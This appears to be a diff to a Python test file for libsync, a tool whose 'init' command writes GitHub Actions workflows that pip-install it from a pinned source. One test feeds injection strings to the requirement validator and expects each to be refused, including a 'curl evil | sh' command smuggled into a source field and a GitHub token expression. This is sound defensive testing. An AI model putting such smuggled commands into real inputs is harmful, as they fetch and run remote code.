@@ -5,6 +5,7 @@ and a .gitignore that keeps built sites out of Git. Real folders, real Git, a re
 from __future__ import annotations
 
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -18,7 +19,13 @@ from libsync import __version__
 from libsync.errors import LibsyncError
 from libsync.network import Network
 from libsync.render.letterhead import committee, letterhead
-from libsync.scaffold import PROJECT_GIT_URL, default_libsync_source, pip_requirement
+from libsync.scaffold import (
+    checkout_source,
+    default_libsync_source,
+    is_local_source,
+    pip_requirement,
+    source_of_install,
+)
 
 PROJECT = Path(__file__).resolve().parent.parent
 
@@ -121,23 +128,26 @@ def test_the_install_source_becomes_a_pinned_requirement(tmp_path):
     assert pip_requirement("git+file:///srv/libsync@v1") == "libsync @ git+file://localhost/srv/libsync@v1"
     assert pip_requirement(str(tmp_path)) == str(tmp_path.resolve())
     assert pip_requirement("libsync==0.1.0") == "libsync==0.1.0"
-    # the editable checkout these tests run from is not a place GitHub can fetch: the project's tag
-    assert default_libsync_source() == f"{PROJECT_GIT_URL}@v{__version__}"
+    # the editable checkout these tests run from: its commit at its origin, when it has a public one
+    assert default_libsync_source() == checkout_source(PROJECT)
     for bad in ('x" ; curl evil | sh ; "', "${{ github.token }}", "a\nb", "`id`", " "):
         with pytest.raises(LibsyncError) as caught:
             pip_requirement(bad)
         assert caught.value.key == "init.bad_source"
 
 
-def test_default_workflows_install_the_project_from_git_and_pass_actionlint(tmp_path, cli):
+def test_workflows_install_the_project_from_git_and_pass_actionlint(tmp_path, cli):
     target = tmp_path / "net"
-    r = cli("init", target, "--library", "A1=Trường A", "--no-ask")
+    sha = "0123456789abcdef0123456789abcdef01234567"
+    r = cli("init", target, "--library", "A1=Trường A", "--no-ask", "--libsync-source",
+            f"https://github.com/so-gd/libsync@{sha}")
     assert r.exit_code == 0
     steps = _install_steps(target)
     assert set(steps) == {"pages.yml", "validate.yml"}
-    expected = f'python -m pip install "libsync @ git+{PROJECT_GIT_URL}@v{__version__}"'
+    expected = f'python -m pip install "libsync @ git+https://github.com/so-gd/libsync@{sha}"'
     assert set(steps.values()) == {expected} and 'pip install "libsync"' not in str(steps)
     assert expected.split("install ")[1] in r.output          # init says where CI installs from
+    assert "ổ đĩa" not in r.output                            # a server: no warning
     actionlint = shutil.which("actionlint")
     assert actionlint
     files = [str(p) for p in (target / ".github" / "workflows").glob("*.yml")]
@@ -172,3 +182,89 @@ def test_the_generated_install_step_installs_libsync_in_a_fresh_venv(tmp_path, c
     version = subprocess.run(["libsync", "--version"], cwd=target, env=env, capture_output=True, text=True)
     assert version.returncode == 0 and __version__ in version.stdout, version.stdout + version.stderr
     assert shutil.which("libsync", path=env["PATH"]) == str(venv / "bin" / "libsync")
+
+
+def _checkout(folder: Path, origin: str | None = None) -> tuple[Path, str]:
+    """A Git checkout with one commit (and ``origin`` when given), as a libsync source folder."""
+    repo = git.Repo.init(folder, initial_branch="main")
+    with repo.config_writer() as cw:
+        cw.set_value("user", "name", "Tổ tin học")
+        cw.set_value("user", "email", "tin@example.invalid")
+    (folder / "pyproject.toml").write_text("[project]\nname = 'libsync'\n", encoding="utf-8")
+    repo.git.add("--all")
+    repo.git.commit("-m", "x")
+    if origin:
+        repo.create_remote("origin", origin)
+    return folder, repo.head.commit.hexsha
+
+
+def test_an_editable_install_pins_its_checkouts_commit_at_a_public_origin_only(tmp_path):
+    def editable(folder: Path) -> dict:
+        return {"dir_info": {"editable": True}, "url": folder.as_uri()}
+
+    bare, _ = _checkout(tmp_path / "bare")
+    assert source_of_install(editable(bare)) is None                       # no origin: unknown
+    local, _ = _checkout(tmp_path / "local", origin=str(tmp_path / "bare"))
+    assert source_of_install(editable(local)) is None                      # an origin on this computer
+    token, _ = _checkout(tmp_path / "token", origin="https://ha:ghp_secret@github.com/so-gd/libsync.git")
+    assert source_of_install(editable(token)) is None                      # never a token in a workflow
+    https, sha = _checkout(tmp_path / "https", origin="https://github.com/so-gd/libsync.git")
+    assert source_of_install(editable(https)) == f"https://github.com/so-gd/libsync.git@{sha}"
+    assert pip_requirement(source_of_install(editable(https))) == f"libsync @ git+https://github.com/so-gd/libsync.git@{sha}"
+    ssh, sha = _checkout(tmp_path / "ssh", origin="git@github.com:so-gd/libsync.git")
+    assert pip_requirement(source_of_install(editable(ssh))) == f"libsync @ git+ssh://git@github.com/so-gd/libsync.git@{sha}"
+    # installed (not editable) from a folder: what was installed is not that folder's HEAD
+    assert source_of_install({"dir_info": {}, "url": https.as_uri()}) is None
+    # installed by pip from Git: that commit, as before
+    assert source_of_install({"url": "https://github.com/so-gd/libsync", "vcs_info": {"vcs": "git", "commit_id": sha}}) \
+        == f"https://github.com/so-gd/libsync@{sha}"
+
+
+def test_init_with_no_known_source_says_so_and_writes_a_step_that_stops_clearly(tmp_path, cli, monkeypatch):
+    """Here: an editable install from a checkout without a public origin (as this project's own)."""
+    import libsync.scaffold as scaffold
+
+    checkout, _ = _checkout(tmp_path / "libsync-src")
+    monkeypatch.setattr(scaffold, "_install_record", lambda: {"dir_info": {"editable": True}, "url": checkout.as_uri()})
+    target = tmp_path / "net"
+    r = cli("init", target, "--library", "A1=Trường A", "--no-ask")
+    assert r.exit_code == 0, r.output
+    assert "Chưa biết CI của kho mới cài libsync từ đâu" in r.stderr and "--libsync-source" in r.stderr
+    assert "pip install" not in r.stdout                     # no install line is claimed
+    steps = _install_steps(target)
+    assert set(steps) == {"pages.yml", "validate.yml"}
+    for run in steps.values():
+        assert [line for line in run.splitlines() if line.strip().startswith("python")] == []   # installs nothing
+        done = subprocess.run(["bash", "-e", "-c", run], cwd=target, capture_output=True, text=True, timeout=60)
+        assert done.returncode == 1
+        assert done.stdout.startswith("::error title=libsync-source::Cần đặt libsync-source: chưa biết cài libsync")
+    actionlint = shutil.which("actionlint")
+    assert actionlint
+    files = [str(p) for p in (target / ".github" / "workflows").glob("*.yml")]
+    lint = subprocess.run([actionlint, "-no-color", *files], capture_output=True, text=True)
+    assert lint.returncode == 0, lint.stdout + lint.stderr
+    # the old name of the option still works, out of sight in --help
+    r = cli("init", tmp_path / "net2", "--library", "A1=Trường A", "--no-ask", "--pip-spec", "https://github.com/x/libsync@v1")
+    assert r.exit_code == 0 and "libsync @ git+https://github.com/x/libsync@v1" in r.stdout
+
+
+def test_a_source_on_this_computer_is_warned_about(tmp_path, cli):
+    folder, sha = _checkout(tmp_path / "libsync-src")
+    for source in (str(folder), f"git+file://{folder}@{sha}"):
+        target = tmp_path / f"net-{len(source)}"
+        r = cli("init", target, "--library", "A1=Trường A", "--no-ask", "--libsync-source", source)
+        assert r.exit_code == 0, r.output
+        assert "Máy chạy CI của GitHub không thấy ổ đĩa của bạn" in r.stderr, r.stderr
+    assert is_local_source("/srv/libsync-0.1.0-py3-none-any.whl") and is_local_source("./libsync")
+    assert not is_local_source("libsync @ git+https://github.com/x/libsync@v1") and not is_local_source("libsync==0.1.0")
+
+
+@pytest.mark.parametrize("lang", ["vi", "en"])
+def test_init_help_shows_the_source_option_whole_at_80_columns(lang):
+    env = {**os.environ, "COLUMNS": "80", "LIBSYNC_LANG": lang}
+    out = subprocess.run([sys.executable, "-m", "libsync", "init", "--help"], capture_output=True, text=True,
+                         env=env, timeout=120).stdout
+    assert "--libsync-source " in out and "--pip-spec" not in out   # the old alias works, unshown
+    assert not re.search(r"[\w/.@-]…", out), out                    # nothing cut short ('--pip-…', 'v0.1…')
+    assert max(len(line) for line in out.splitlines()) <= 80
+    assert "@commit" in out
